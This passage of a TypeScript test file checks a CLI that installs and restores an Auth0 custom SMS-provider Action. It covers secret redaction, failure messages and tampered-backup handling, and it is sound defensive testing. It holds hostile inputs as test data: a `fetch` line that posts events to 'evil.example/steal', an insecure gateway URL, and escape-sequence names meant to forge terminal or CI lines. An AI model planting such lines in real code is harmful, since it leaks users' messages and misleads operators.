// phone-provider configure / show / test, status and restore of the phone side, against the
// sandbox over HTTPS through the real SDK. The sandbox runs the deployed Action's code the way
// Auth0's runtime would, so these tests prove that the generated Action reaches a gateway with a
// token verifyGatewayRequest accepts.
import { chmodSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { fingerprintMatches, parseActionCode } from '../../src/core/action-code.js';
import { startGatewayServer, type GatewayServer } from '../../src/gateway/server.js';
import type { GatewayPayload } from '../../src/gateway/payload.js';
import {
  SEED_ACTION_SECRET,
  SEED_FOREIGN_ACTION_ID,
  SEED_IDS,
  SEED_PHONE_TWILIO_TOKEN,
  SEED_SECRETS,
  seedCustomPhoneProvider,
  seedForeignPhoneAction,
  seedTwilioPhoneProvider,
} from '../../src/sandbox/index.js';
import { asCreatedOnUnifiedPhone, requestLines, sandboxEnv, writes } from '../helpers/env.js';
import { api } from '../sandbox/http.js';
import { runCli, type CliRun } from '../helpers/run-cli.js';
import { KEY, runCliOnTerminal } from '../helpers/pty-cli.js';
import { closeTestSandboxes, sharedTls, startTestSandbox, useSandbox } from '../helpers/sandbox.js';

const SECRET = 'phone-provider-gateway-secret-of-44-characters';
const OTHER_SECRET = 'another-gateway-secret-of-at-least-32-chars!!';
const B64_SECRET = Buffer.from('32-bytes-of-key-material-for-b64').toString('base64url');
const AUDIENCE = 'urn:phone-gateway';
const PHONE = '+15551230001';

interface Received {
  payload: GatewayPayload;
  claims: Record<string, unknown> | null;
}

/** An HTTPS gateway with the sandbox's certificate that verifies like a real one; `status` overrides its answer. */
async function gateway(secret: string, base64 = false): Promise<{ server: GatewayServer; url: string; received: Received[] }> {
  const received: Received[] = [];
  const server = await startGatewayServer({
    tls: sharedTls(),
    verify: { secret, audience: AUDIENCE, secretBase64Encoded: base64 },
    onMessage: (payload, meta) => void received.push({ payload, claims: meta.claims as Record<string, unknown> | null }),
  });
  return { server, url: `${server.url}/sms`, received };
}

function noSecretIn(r: CliRun, ...more: string[]): void {
  for (const secret of [...SEED_SECRETS, SECRET, OTHER_SECRET, B64_SECRET, ...more]) {
    expect(r.stdout).not.toContain(secret);
    expect(r.stderr).not.toContain(secret);
  }
  expect(r.stdout + r.stderr).not.toMatch(/eyJ[A-Za-z0-9_-]+\.eyJ[A-Za-z0-9_-]+\./);
}

/** `more` may name another --audience (an option is given once). */
const configureArgs = (url: string, ...more: string[]) => ['phone-provider', 'configure', '--gateway-url', url, '--auth', 'bearer', ...(more.includes('--audience') ? [] : ['--audience', AUDIENCE]), '--secret-env', 'S', ...more];

describe('phone-provider configure on a Unified Phone tenant', () => {
  const sandbox = useSandbox({ tenant: { phoneConsolidatedExperience: true } });
  let gw: Awaited<ReturnType<typeof gateway>>;
  let backups: string;
  const env = (secret = SECRET, extra: NodeJS.ProcessEnv = {}) => sandboxEnv(sandbox(), 'full', { S: secret, ...extra });

  beforeAll(async () => {
    gw = await gateway(SECRET);
  });
  afterAll(() => gw.server.close());
  beforeEach(() => {
    gw.received.length = 0;
    backups = mkdtempSync(join(tmpdir(), 'a0sg-phone-'));
  });

  it('every step accepted but the read-back failing: an outcome to check with the way back, never a bare failure', async () => {
    // The first read of the providers is the plan's; every one after it (the read-back) fails.
    sandbox().inject({ kind: 'status', status: 503, method: 'GET', path: /^\/api\/v2\/branding\/phone\/providers$/, after: 1, times: 100 });
    const r = await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups, '--json'), { env: env(undefined, { AUTH0_SMS_GATEWAY_SETTLE_MS: '10' }) });
    expect(r.code).toBe(1);
    const [file] = readdirSync(backups);
    expect(JSON.parse(r.stdout)).toEqual({
      error: {
        message: expect.stringMatching(/^every step was accepted, but reading the tenant back to check them failed \(.*503.*\): the result is not verified$/) as unknown,
        hint: `run \`auth0-sms-gateway status\`, or put it back with \`auth0-sms-gateway restore ${join(backups, file!)}\``,
        exitCode: 1,
      },
    });
    expect(sandbox().phoneProvider()).toMatchObject({ name: 'custom' });
    noSecretIn(r);
  });

  it('installs one Action, builds, deploys and binds it, sets the provider; Auth0 then delivers through the gateway with a verified JWT', async () => {
    const r = await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env: env() });
    expect(r.stderr).toContain('Done: the tenant\'s phone provider now sends its SMS through');
    expect(r.code).toBe(0);
    noSecretIn(r);
    // The writes, in Auth0's required order: Action, deploy, bind, provider.
    expect(writes(sandbox())).toEqual([
      'POST /api/v2/actions/actions',
      expect.stringMatching(/^POST \/api\/v2\/actions\/actions\/[^/]+\/deploy$/),
      'PATCH /api/v2/actions/triggers/custom-phone-provider/bindings',
      'POST /api/v2/branding/phone/providers',
    ]);
    const [action] = sandbox().actions();
    expect(action?.secrets).toEqual([expect.objectContaining({ name: 'SMS_GATEWAY_SECRET', value: SECRET })]);
    expect(action?.code).not.toContain(SECRET);
    expect(parseActionCode(action?.code)).toMatchObject({ kind: 'ours', current: true, settings: { gateway_url: gw.url, authentication: 'bearer', audience: AUDIENCE, subject: 'urn:Auth0' } });
    expect(sandbox().bindings('custom-phone-provider')).toEqual([expect.objectContaining({ action_id: action?.id })]);
    expect(sandbox().phoneProvider()).toMatchObject({ name: 'custom', disabled: false, configuration: { delivery_methods: ['text'] } });

    const message = await sandbox().deliver({ to: PHONE, code: '424242', from: '+15550009999' });
    expect(message).toMatchObject({ via: 'custom-action', outcome: 'delivered' });
    expect(gw.received).toHaveLength(1);
    expect(gw.received[0]?.payload).toEqual({ recipient: PHONE, body: expect.stringContaining('424242'), sender: '+15550009999' });
    expect(gw.received[0]?.claims).toMatchObject({ aud: AUDIENCE, sub: 'urn:Auth0', iat: expect.any(Number), exp: expect.any(Number) });
    // The Action never logs the code, the text or the recipient.
    expect(message.logs.join('\n')).not.toMatch(/424242|15551230001/);
    // The backup says "no provider, nothing bound, no Action of ours".
    const [file] = readdirSync(backups);
    expect(file).toMatch(/phone-provider/);
  });

  it('restore shows the Action code it puts back (settings and digest) before writing it', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    const changed = await runCli(['phone-provider', 'configure', '--audience', 'urn:changed', '--yes', '--backup-dir', backups], { env: env() });
    expect(changed.code).toBe(0);
    const file = join(backups, readdirSync(backups)[0]!);
    sandbox().requests.length = 0;

    const plan = await runCli(['restore', file, '--dry-run', '--json'], { env: env() });
    expect(plan.code).toBe(0);
    const doc = JSON.parse(plan.stdout) as { changed: boolean; planned: string[]; diff: { path: string; before: unknown; after: unknown }[] };
    expect(doc.changed).toBe(false);
    expect(doc.planned).toEqual(['put the code of auth0-sms-gateway-sms back and deploy it']);
    // The steps are listed for people too, before the dry run ends, as phone-provider configure lists its own.
    expect(plan.stderr).toContain('Steps, in this order:\n  1. put the code of auth0-sms-gateway-sms back and deploy it\nDry run: 1 step planned, nothing written.');
    expect(doc.diff).toEqual([
      { path: 'tool_action.settings.audience', kind: 'changed', before: 'urn:changed', after: AUDIENCE },
      { path: 'tool_action.code', kind: 'changed', before: expect.stringMatching(/^sha256:[0-9a-f]{12}$/), after: expect.stringMatching(/^sha256:[0-9a-f]{12}$/) },
    ]);
    const human = await runCli(['restore', file, '--yes', '--no-backup'], { env: env() });
    expect(human.code).toBe(0);
    expect(human.stdout).toMatch(/~ tool_action\.settings\.audience: "urn:changed" -> "urn:phone-gateway"/);
    expect(human.stdout).not.toContain('(no changes)');
    expect(writes(sandbox())).toEqual([expect.stringMatching(/^PATCH \/api\/v2\/actions\/actions\/[^/]+$/), expect.stringMatching(/^POST \/api\/v2\/actions\/actions\/[^/]+\/deploy$/)]);
    expect(parseActionCode(sandbox().actions()[0]?.code)).toMatchObject({ kind: 'ours', settings: { audience: AUDIENCE } });
  });

  // A refusal leaves the deployed version running; a 503 may have been carried out: no claim either way.
  it.each([
    [403, /^error: the restore stopped \(.*\); done before that: put the code of auth0-sms-gateway-sms back, not deployed \(the deployed version still runs\)$/m],
    [503, /^error: the restore stopped with the outcome of its last step unknown \(.*\); done before that: put the code of auth0-sms-gateway-sms back; whether it was deployed is unknown$/m],
  ])('restore whose deploy is answered %i after the code went back says what the code step did, never "nothing"', async (status, line) => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    expect((await runCli(['phone-provider', 'configure', '--audience', 'urn:changed', '--yes', '--backup-dir', backups], { env: env() })).code).toBe(0);
    sandbox().inject({ kind: 'status', status, method: 'POST', path: /\/deploy$/, times: 10 });
    const r = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env: env(undefined, { AUTH0_SMS_GATEWAY_SETTLE_MS: '10' }) });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(line);
    expect(r.stderr).not.toMatch(/done before that: nothing/);
    expect(parseActionCode(sandbox().actions()[0]?.code)).toMatchObject({ kind: 'ours', settings: { audience: AUDIENCE } });
  });

  it('phone-provider test: a lost answer may have sent the message, and says so instead of "retry"', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    sandbox().inject({ kind: 'drop', method: 'POST', path: /\/try$/, afterApply: true });
    const r = await runCli(['phone-provider', 'test', '--to', PHONE, '--json'], { env: env() });
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout)).toEqual({
      error: { message: expect.stringMatching(/^the answer to the test message was lost \(.+\): Auth0 may have sent it$/) as unknown, hint: 'check the phone (or your gateway) before sending another', exitCode: 1 },
    });
    await sandbox().idle();
    expect(gw.received).toHaveLength(1);
  });

  it('restore deploys the tool\'s code rendered from the backup\'s settings, never code added to a backup; an http:// gateway and foreign code are refused', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    expect((await runCli(['phone-provider', 'configure', '--audience', 'urn:changed', '--yes', '--backup-dir', backups], { env: env() })).code).toBe(0);
    const file = join(backups, readdirSync(backups)[0]!);
    const saved = JSON.parse(readFileSync(file, 'utf8')) as { action: { code: string } };
    const edited = (name: string, code: string) => {
      const path = join(backups, name);
      writeFileSync(path, JSON.stringify({ ...saved, action: { ...saved.action, code } }), { mode: 0o600 });
      return path;
    };
    // The tool's header and settings block around a line that sends each event elsewhere.
    const framed = saved.action.code.replace(/\n/, '\nfetch("https://evil.example/steal", { method: "POST" }).catch(() => {});\n');
    expect(framed).not.toBe(saved.action.code);
    const r = await runCli(['restore', edited('framed.json', framed), '--yes', '--no-backup'], { env: env() });
    expect(r.code).toBe(0);
    const deployed = sandbox().actions()[0]!.code;
    expect(deployed).not.toContain('evil.example');
    expect(parseActionCode(deployed)).toMatchObject({ kind: 'ours', current: true, settings: { audience: AUDIENCE } });

    const http = saved.action.code.replace(JSON.stringify(gw.url), JSON.stringify('http://evil.example/x'));
    expect(http).toContain('http://evil.example/x');
    const refusedUrl = await runCli(['restore', edited('http.json', http), '--dry-run'], { env: env() });
    expect(refusedUrl.code).toBe(2);
    expect(refusedUrl.stderr).toMatch(/error: .*http\.json: the Action's gateway_url: .*https/);

    // Settings configure would refuse: an audience with an escape character.
    const badAudience = saved.action.code.replace(JSON.stringify(AUDIENCE), JSON.stringify('urn:a\u001b[2J'));
    expect(badAudience).not.toBe(saved.action.code);
    const refusedAudience = await runCli(['restore', edited('audience.json', badAudience), '--dry-run'], { env: env() });
    expect(refusedAudience.code).toBe(2);
    expect(refusedAudience.stderr).toMatch(/error: .*audience\.json: the Action's audience: .*control characters/);

    const foreign = 'exports.onExecuteCustomPhoneProvider = async () => {};\n';
    const before = writes(sandbox()).length;
    const refused = await runCli(['restore', edited('foreign.json', foreign), '--yes', '--no-backup'], { env: env() });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/error: .*foreign\.json: the Action's code is not the tool's code: a restore deploys only code it can check\nhint: .*--force deploys the backup's code as it is/);
    // --force stands for unchecked code only from a backup in a safe place.
    const exposed = edited('exposed.json', foreign);
    chmodSync(exposed, 0o666);
    const unsafe = await runCli(['restore', exposed, '--yes', '--no-backup', '--force'], { env: env() });
    expect(unsafe.code).toBe(2);
    expect(unsafe.stderr).toMatch(/hint: --force does not deploy unchecked code from this backup: .*writable/);
    expect(writes(sandbox())).toHaveLength(before);
    // The tool's header over settings that cannot be read (an edit in the Dashboard): deployed with --force only.
    const unreadable = saved.action.code.replace(/const SETTINGS = [\s\S]*$/, 'const SETTINGS = { "gateway_url": 1 };\n');
    expect(parseActionCode(unreadable)).toMatchObject({ kind: 'ours', settings: null });
    expect((await runCli(['restore', edited('unreadable.json', unreadable), '--yes', '--no-backup'], { env: env() })).code).toBe(2);
    expect((await runCli(['restore', edited('unreadable.json', unreadable), '--yes', '--no-backup', '--force'], { env: env() })).code).toBe(0);
    expect(sandbox().actions()[0]!.code).toBe(unreadable);
    // Code already in place is not checked again: the same restore without --force writes nothing.
    const writesSoFar = writes(sandbox()).length;
    const again = await runCli(['restore', edited('unreadable.json', unreadable), '--yes', '--no-backup'], { env: env() });
    expect(again.stderr).not.toMatch(/error:/);
    expect(again.code).toBe(0);
    expect(writes(sandbox())).toHaveLength(writesSoFar);
    const forced = await runCli(['restore', edited('foreign.json', foreign), '--yes', '--no-backup', '--force'], { env: env() });
    expect(forced.code).toBe(0);
    expect(sandbox().actions()[0]!.code).toBe(foreign);
  });

  it('restore keeps the fingerprint of the secret the Action keeps: the next configure with the backup\'s secret writes it', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    // Secret and audience changed: the backup holds the code with SECRET's fingerprint; the Action now holds OTHER_SECRET.
    const rotated = await runCli(configureArgs(gw.url, '--audience', 'urn:changed', '--yes', '--backup-dir', backups), { env: env(OTHER_SECRET) });
    expect(rotated.code).toBe(0);
    const restored = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env: env() });
    expect(restored.code).toBe(0);
    expect(restored.stderr).toContain('warning: the Action\'s secret may not be the one it had at the time of the backup, and a restore cannot put a secret back');
    const [action] = sandbox().actions();
    expect(action?.secrets).toEqual([expect.objectContaining({ name: 'SMS_GATEWAY_SECRET', value: OTHER_SECRET })]);
    const parsed = parseActionCode(action?.code);
    expect(parsed).toMatchObject({ kind: 'ours', current: true, settings: { audience: AUDIENCE } });
    expect(parsed.kind === 'ours' && parsed.settings !== null && fingerprintMatches(OTHER_SECRET, parsed.settings.secret_fingerprint)).toBe(true);

    // The gateway expects SECRET: the backup's settings with SECRET are a change (the secret), not "nothing to change".
    const plan = await runCli(configureArgs(gw.url, '--dry-run', '--json'), { env: env() });
    expect(plan.code).toBe(0);
    expect((JSON.parse(plan.stdout) as { diff: { path: string }[] }).diff.map((c) => c.path)).toEqual(['action.secrets.SMS_GATEWAY_SECRET']);
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    expect(sandbox().actions()[0]?.secrets).toEqual([expect.objectContaining({ name: 'SMS_GATEWAY_SECRET', value: SECRET })]);
    expect(await sandbox().deliver({ to: PHONE, code: '515151', from: '+15550009999' })).toMatchObject({ outcome: 'delivered' });
  });

  it('restore whose code update is dropped before Auth0 applied it: sent again, and the backup\'s settings are what gets deployed', async () => {
    expect((await runCli(configureArgs(`${gw.url}/a`, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    expect((await runCli(configureArgs(`${gw.url}/b`, '--yes', '--backup-dir', backups), { env: env() })).code).toBe(0);
    sandbox().inject({ kind: 'drop', method: 'PATCH', path: /\/actions\/actions\/[^/]+$/ });
    const r = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env: env(undefined, { AUTH0_SMS_GATEWAY_SETTLE_MS: '20' }) });
    expect(r.code).toBe(0);
    const [action] = sandbox().actions();
    const parsed = parseActionCode(action?.code);
    expect(parsed.kind === 'ours' && parsed.settings?.gateway_url).toBe(`${gw.url}/a`);
    expect(action?.all_changes_deployed).toBe(true);
  });

  it('restore refuses bearer code for an Action that has no secret any more, and names the command that sets one', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    expect((await runCli(['phone-provider', 'configure', '--auth', 'none', '--yes', '--backup-dir', backups], { env: env() })).code).toBe(0);
    expect(sandbox().actions()[0]?.secrets ?? []).toEqual([]);
    sandbox().requests.length = 0;
    const r = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env: env() });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('has none now (it was set to no authentication since); a restore cannot put a secret back (Auth0 never returns one): nothing was written');
    expect(r.stderr).toMatch(/hint: set it up again with `auth0-sms-gateway phone-provider configure .*--auth bearer .*--secret-env <VARIABLE>/);
    expect(writes(sandbox())).toEqual([]);
  });

  it('restore of a backup that differs only by the secret writes nothing and says the secret is not put back', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    expect((await runCli(configureArgs(gw.url, '--yes', '--backup-dir', backups), { env: env(OTHER_SECRET) })).code).toBe(0);
    sandbox().requests.length = 0;
    const restored = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env: env() });
    expect(restored.code).toBe(0);
    expect(restored.stderr).toContain('Nothing to change that a restore can write: the phone provider already is as the backup holds it, but for the secret.');
    expect(restored.stderr).toContain('it keeps the one it has now; if the gateway expects the old one, set it with `auth0-sms-gateway phone-provider configure --secret-env <VARIABLE>`');
    expect(writes(sandbox())).toEqual([]);
  });

  it('AUTH0_SMS_GATEWAY_SECRET lingering in the shell does not replace the Action\'s secret', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    const r = await runCli(['phone-provider', 'configure', '--subject', 'urn:Auth0', '--audience', AUDIENCE, '--dry-run', '--json'], { env: env(SECRET, { AUTH0_SMS_GATEWAY_SECRET: OTHER_SECRET }) });
    expect(r.code).toBe(0);
    expect((JSON.parse(r.stdout) as { diff: unknown[] }).diff).toEqual([]);
  });

  it('an audience that holds the secret is refused before any write, without showing it', async () => {
    const r = await runCli(['phone-provider', 'configure', '--gateway-url', gw.url, '--auth', 'bearer', '--audience', `urn:${SECRET}`, '--secret-env', 'S', '--yes', '--no-backup'], { env: env() });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("error: the phone provider Action: audience holds the gateway's signing secret, which would be stored and shown in clear");
    noSecretIn(r);
    expect(writes(sandbox())).toEqual([]);
  });

  it('the steps name a renamed Action escaped: a name cannot forge a line or drive the terminal', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    const [action] = sandbox().actions();
    expect((await api(sandbox(), 'PATCH', `/actions/actions/${action!.id}`, { name: 'evil\u001b[31m\n::error::act' }, ['update:actions'])).status).toBe(200);
    const r = await runCli(configureArgs(gw.url, '--audience', 'urn:changed', '--dry-run'), { env: env() });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('update the Action evil\\x1b[31m\\x0a::error::act');
    expect(r.stdout + r.stderr).not.toMatch(/^::error/m);
    expect(r.stdout + r.stderr).not.toContain('\u001b[31m');
  });

  it('restore refuses to stand in for a deleted Action, and names the configure command that installs it again', async () => {
    const none = mkdtempSync(join(tmpdir(), 'a0sg-phone-none-'));
    expect((await runCli(configureArgs(gw.url, '--yes', '--backup-dir', none), { env: env() })).code).toBe(0);
    expect((await runCli(['phone-provider', 'configure', '--audience', 'urn:changed', '--yes', '--backup-dir', backups], { env: env() })).code).toBe(0);
    // Back to "no provider": the Action goes too.
    const toNone = await runCli(['restore', join(none, readdirSync(none)[0]!), '--yes', '--no-backup'], { env: env() });
    expect(toNone.code).toBe(0);
    expect(toNone.stderr).toContain(
      'Steps, in this order:\n  1. delete the phone provider (the backup was taken when there was none)\n  2. remove the custom-phone-provider binding\n  3. delete the Action auth0-sms-gateway-sms (the backup had none)\n',
    );
    expect(sandbox().actions()).toEqual([]);
    sandbox().requests.length = 0;

    const r = await runCli(['restore', join(backups, readdirSync(backups)[0]!), '--yes', '--no-backup'], { env: env() });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('no longer exists, and a restore cannot create it again without its secret: nothing was written');
    expect(r.stderr).toContain(`auth0-sms-gateway phone-provider configure --gateway-url ${gw.url} --auth bearer --subject urn:Auth0 --audience ${AUDIENCE} --secret-env <VARIABLE>`);
    expect(writes(sandbox())).toEqual([]);
  });

  it('restore of a provider deleted since lists the create step, in words, in --json', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    expect((await runCli(['phone-provider', 'configure', '--audience', 'urn:changed', '--yes', '--backup-dir', backups], { env: env() })).code).toBe(0);
    const provider = sandbox().phoneProvider();
    expect((await api(sandbox(), 'DELETE', `/branding/phone/providers/${provider!.id}`, undefined, ['delete:phone_providers'])).status).toBe(204);
    const file = join(backups, readdirSync(backups)[0]!);
    const plan = await runCli(['restore', file, '--dry-run', '--json'], { env: env() });
    expect(plan.code).toBe(0);
    expect((JSON.parse(plan.stdout) as { planned: string[] }).planned).toEqual(['create the phone provider "custom"', 'put the code of auth0-sms-gateway-sms back and deploy it']);
  });

  it('restore puts the code back into the tool\'s Action installed again since (another id), bound as it is', async () => {
    const none = mkdtempSync(join(tmpdir(), 'a0sg-phone-none-'));
    expect((await runCli(configureArgs(gw.url, '--yes', '--backup-dir', none), { env: env() })).code).toBe(0);
    expect((await runCli(['phone-provider', 'configure', '--audience', 'urn:changed', '--yes', '--backup-dir', backups], { env: env() })).code).toBe(0);
    const oldId = sandbox().actions()[0]?.id;
    expect((await runCli(['restore', join(none, readdirSync(none)[0]!), '--yes', '--no-backup'], { env: env() })).code).toBe(0);
    expect((await runCli(configureArgs(gw.url, '--audience', 'urn:changed', '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    const [again] = sandbox().actions();
    expect(again?.id).not.toBe(oldId);
    sandbox().requests.length = 0;

    const file = join(backups, readdirSync(backups)[0]!);
    const plan = await runCli(['restore', file, '--dry-run', '--json'], { env: env() });
    expect(plan.code).toBe(0);
    expect((JSON.parse(plan.stdout) as { diff: { path: string }[] }).diff.map((change) => change.path)).toEqual(['tool_action.settings.audience', 'tool_action.code']);
    const r = await runCli(['restore', file, '--yes', '--no-backup'], { env: env() });
    expect(r.code).toBe(0);
    expect(writes(sandbox())).toEqual([`PATCH /api/v2/actions/actions/${again?.id}`, `POST /api/v2/actions/actions/${again?.id}/deploy`]);
    expect(sandbox().bindings('custom-phone-provider')).toEqual([expect.objectContaining({ action_id: again?.id })]);
    expect(parseActionCode(sandbox().actions()[0]?.code)).toMatchObject({ kind: 'ours', settings: { audience: AUDIENCE } });
  });

  it('an Action edited by hand is named so, not "outdated", and the rewrite says it drops the edits', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    const [action] = sandbox().actions();
    expect((await api(sandbox(), 'PATCH', `/actions/actions/${action?.id}`, { code: `${action?.code ?? ''}\n// edited` }, ['update:actions'])).status).toBe(200);
    await sandbox().idle();
    expect((await api(sandbox(), 'POST', `/actions/actions/${action?.id}/deploy`, undefined, ['create:actions'])).status).toBe(200);
    const r = await runCli(configureArgs(gw.url, '--dry-run', '--json'), { env: env() });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("the installed Action's code was changed by hand since this tool wrote it; it is rewritten with template");
    // status and show say so too: an edited Action may do anything with the code and the number.
    expect((await runCli(['status'], { env: env() })).stdout).toMatch(/its Action +auth0-sms-gateway-sms \(deployed, installed by this tool, template 1 \(changed by hand\)\)/);
    expect((await runCli(['phone-provider', 'show'], { env: env() })).stdout).toContain('installed by this tool, template 1 (changed by hand)');
    expect(JSON.parse(r.stdout).diff).toContainEqual({ path: 'action.template', kind: 'changed', before: 'template 1 (changed by hand)', after: 'template 1' });
  });

  it('a second run with the same settings writes nothing', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    sandbox().requests.length = 0;
    const again = await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() });
    expect(again.code).toBe(0);
    expect(again.stderr).toContain('Nothing to change');
    expect(writes(sandbox())).toEqual([]);
  });

  it('detects a changed secret (fingerprint) and rewrites only the Action', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    sandbox().requests.length = 0;
    const r = await runCli(configureArgs(gw.url, '--dry-run', '--json'), { env: env(OTHER_SECRET) });
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout) as { diff: { path: string; before: unknown; after: unknown }[]; changed: boolean };
    expect(doc.diff).toEqual([{ path: 'action.secrets.SMS_GATEWAY_SECRET', kind: 'changed', before: '[redacted]', after: '[redacted]' }]);
    expect(writes(sandbox())).toEqual([]);
    const applied = await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env(OTHER_SECRET) });
    expect(applied.code).toBe(0);
    expect(writes(sandbox())).toEqual([expect.stringMatching(/^PATCH \/api\/v2\/actions\/actions\/[^/]+$/), expect.stringMatching(/\/deploy$/)]);
    expect(sandbox().actions()[0]?.secrets).toEqual([expect.objectContaining({ value: OTHER_SECRET })]);
    noSecretIn(applied);
  });

  it('forwards req { ip, user-agent } with forward_req_info; none without it', async () => {
    expect((await runCli(configureArgs(gw.url, '--forward-req-info', '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    await sandbox().deliver({ to: PHONE, ip: '198.51.100.7', userAgent: 'Mozilla/5.0 test' });
    expect(gw.received[0]?.payload.req).toEqual({ ip: '198.51.100.7', 'user-agent': 'Mozilla/5.0 test' });
    expect((await runCli(configureArgs(gw.url, '--no-forward-req-info', '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    await sandbox().deliver({ to: PHONE, ip: '198.51.100.7', userAgent: 'Mozilla/5.0 test' });
    expect(gw.received[1]?.payload).not.toHaveProperty('req');
  });

  it('a voice notification is dropped without calling the gateway', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    // Someone turns voice on in the Dashboard: Auth0 then hands voice messages to the Action.
    const provider = sandbox().phoneProvider()!;
    const patched = await api(sandbox(), 'PATCH', `/branding/phone/providers/${provider.id}`, { configuration: { delivery_methods: ['text', 'voice'] } }, ['update:phone_providers']);
    expect(patched.status).toBe(200);
    const message = await sandbox().deliver({ to: PHONE, deliveryMethod: 'voice' });
    expect(message.outcome).toBe('drop');
    expect(message.reason).toMatch(/text/);
    expect(gw.received).toEqual([]);
  });

  it('phone-provider show and status name the Action, installed by this tool, and its gateway; test asks Auth0 and says 202 is not delivery', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    const status = await runCli(['status', '--json'], { env: env() });
    expect(status.code).toBe(0);
    const doc = JSON.parse(status.stdout) as Record<string, unknown>;
    expect(doc).toMatchObject({
      domain: sandbox().domain,
      unifiedPhone: true,
      phoneProvider: { name: 'custom', disabled: false, delivery_methods: ['text'], action: { name: 'auth0-sms-gateway-sms', deployed: true, managed: true, gateway_url: gw.url } },
      missingScopes: [],
    });
    expect((doc.connections as { route: string }[]).map((c) => c.route)).toEqual(['twilio', 'gateway']);
    const show = await runCli(['phone-provider', 'show'], { env: env() });
    expect(show.code).toBe(0);
    expect(show.stdout).toContain('installed by this tool');
    expect(show.stdout).toContain('SMS_GATEWAY_SECRET (value never shown)');
    noSecretIn(show);
    const showJson = await runCli(['phone-provider', 'show', '--json'], { env: env() });
    expect(JSON.parse(showJson.stdout)).toMatchObject({ phoneProvider: { secretNames: ['SMS_GATEWAY_SECRET'], settings: { audience: AUDIENCE } } });
    noSecretIn(showJson);
    const test = await runCli(['phone-provider', 'test', '--to', PHONE], { env: env() });
    expect(test.code).toBe(0);
    expect(test.stderr).toMatch(/accepted the test message.*\n.*Accepted is not delivered/);
    // The provider's Action could be another's: no claim that it sends to "your gateway".
    expect(test.stderr).toContain('Watch where its Action sends: your gateway, when it is the Action `phone-provider configure` installs');
    await sandbox().idle();
    expect(gw.received).toHaveLength(1);
  });

  it('status without the Actions scopes: the provider is shown, its Action is null, read:actions is named, exit 0', async () => {
    expect((await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env() })).code).toBe(0);
    const r = await runCli(['status', '--json'], { env: sandboxEnv(sandbox(), 'noActions') });
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout) as { phoneProvider: Record<string, unknown> };
    expect(doc).toMatchObject({ unifiedPhone: true, phoneProvider: { name: 'custom', disabled: false } });
    expect(doc.phoneProvider.action).toBeNull();
    expect(doc).toMatchObject({ missingScopes: ['read:actions'] });
    expect(r.stderr.split('the token lacks read:actions')).toHaveLength(2);
    expect(r.stderr).not.toContain('read:phone_providers');
  });

  it('a read that fails while waiting for the build is no lost deploy: the deploy was never sent, so it is not "unknown"', async () => {
    sandbox().inject({ kind: 'status', status: 503, method: 'GET', path: /\/actions\/actions\/[^/]+$/, times: 100 });
    const r = await runCli(configureArgs(gw.url, '--yes', '--no-backup'), { env: env(SECRET, { AUTH0_SMS_GATEWAY_MAX_RETRIES: '0', AUTH0_SMS_GATEWAY_SETTLE_MS: '10' }) });
    expect(r.code).toBe(1);
    expect(writes(sandbox())).toEqual([expect.stringMatching(/^POST \/api\/v2\/actions\/actions$/)]);
    expect(r.stderr).toMatch(/error: could not deploy the Action auth0-sms-gateway-sms \(.*before the deploy was sent\); done before that: created the Action auth0-sms-gateway-sms/);
    expect(r.stderr).not.toMatch(/unknown|may still land/);
  });

